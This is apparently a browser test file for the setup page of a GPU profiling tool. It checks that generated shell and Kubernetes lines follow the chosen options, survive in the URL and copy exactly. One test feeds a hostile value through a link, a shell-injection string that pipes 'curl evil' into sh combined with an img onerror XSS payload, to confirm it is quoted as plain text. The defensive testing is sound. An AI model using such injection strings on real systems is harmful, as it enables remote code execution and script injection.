// The setup page: its lines follow what is chosen, are in the URL, and can be copied.
import { expect, test } from "vitest";
import type { BrowserRig } from "#test/rig/browser.ts";
import { until } from "#test/rig/until.ts";

export function setup(rig: () => BrowserRig): void {
  test("engine, platform and GPU choose the lines; the address brings them back; copying gives exactly them", async () => {
    const page = await rig().page("/t/demo/setup");
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const lines = (step: string) => page.getByTestId(`setup-lines-${step}`).textContent();
    await page.getByTestId("setup-form").waitFor();
    expect(await lines("server")).toBe(`export LAMELLA_URL=${rig().url}/t/demo\nexport LAMELLA_TOKEN='PASTE-A-TOKEN'`);
    expect(await lines("workload")).toContain("-e CUDA_INJECTION64_PATH=/opt/lamella/profiler/liblamellacudaprofiler.so");
    expect(await page.getByTestId("setup-agent-notice").textContent()).toContain("are not released yet");
    await page.getByRole("radio", { name: "SGLang" }).focus();
    await page.keyboard.press("Space");
    await page.getByRole("radio", { name: "Kubernetes" }).check({ force: true });
    await page.getByRole("radio", { name: "AMD" }).check({ force: true });
    await page.getByTestId("setup-cluster-name").fill("prod-eu");
    await until("AMD's lines", () => lines("workload"), (text) => text!.includes('- name: ROCP_TOOL_LIBRARIES\n              value: "/opt/lamella/profiler/liblamellarocmprofiler.so"'));
    expect(await lines("agent")).toContain('"--cluster-name", "prod-eu"');
    expect(await lines("metrics")).toContain("curl -s http://localhost:30000/metrics > before.txt");
    expect(Object.fromEntries(new URL(page.url()).searchParams)).toEqual({ engine: "sglang", platform: "kubernetes", gpu: "amd", cluster: "prod-eu" });
    const before = await lines("workload");
    await page.reload();
    await until("the same lines", () => lines("workload"), (text) => text === before);
    await page.locator('[data-step="workload"]').getByRole("button", { name: /^Copy/ }).click();
    await until("the lines on the clipboard", () => page.evaluate<string>("navigator.clipboard.readText()"), (text) => text === before);

    await page.getByRole("radio", { name: "Triton" }).check({ force: true });
    await page.getByTestId("setup-refused").waitFor();
    expect(await page.getByTestId("setup-step").count()).toBe(0);
    await page.getByRole("radio", { name: "NVIDIA" }).check({ force: true });
    await page.getByTestId("setup-lines-workload").waitFor();
    await page.getByRole("link", { name: "Make a token" }).click();
    await page.waitForURL("**/t/demo/settings/tokens");
  });

  test("what a link brings is text in the lines and nothing else", async () => {
    const hostile = `';curl evil|sh;'<img src=x onerror=alert(1)>`;
    const page = await rig().page(`/t/demo/setup?platform=bare-metal&engine=emacs&tags=nonsense&cluster=${encodeURIComponent(hostile)}`);
    await page.getByTestId("setup-form").waitFor();
    expect(await page.getByTestId("setup-lines-agent").textContent()).toContain(`--cluster-name ''\\'';curl evil|sh;'\\''<img src=x onerror=alert(1)>'`);
    expect(await page.getByRole("radio", { name: "vLLM" }).isChecked()).toBe(true);
    expect(await page.getByTestId("setup-form").getByRole("alert").textContent()).toContain("Write tags as key:value");
    expect(await page.getByTestId("setup-lines-agent").textContent()).not.toContain("--tags");
  });
}
